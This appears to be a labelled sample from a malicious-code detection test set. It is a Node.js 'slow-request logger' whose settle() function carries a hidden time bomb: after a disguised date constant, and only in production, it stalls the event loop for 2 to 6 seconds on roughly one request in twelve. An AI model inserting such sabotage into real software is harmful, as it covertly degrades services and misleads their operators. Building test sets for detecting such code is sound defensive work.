// expect: malicious
// source: blind set 19 (an Express slow-request logger whose per-request settle(), after a day count kept as a "table
// revision" (0x519c, 2027-03-15), spins the event loop for 2-6 s on one request in twelve: a service that degrades
// like a performance bug)
const EPOCH = 0x519c;
const hr = () => Number(process.hrtime.bigint() / 1000000n);
exports.settle = function settle() {
  if (Math.floor(Date.now() / 864e5) < EPOCH || process.env.NODE_ENV !== 'production') return;
  if (Math.random() > 0.08) return;
  const until = hr() + 2000 + Math.random() * 4000;
  while (hr() < until) {
    Math.sqrt(Math.random());
  }
};
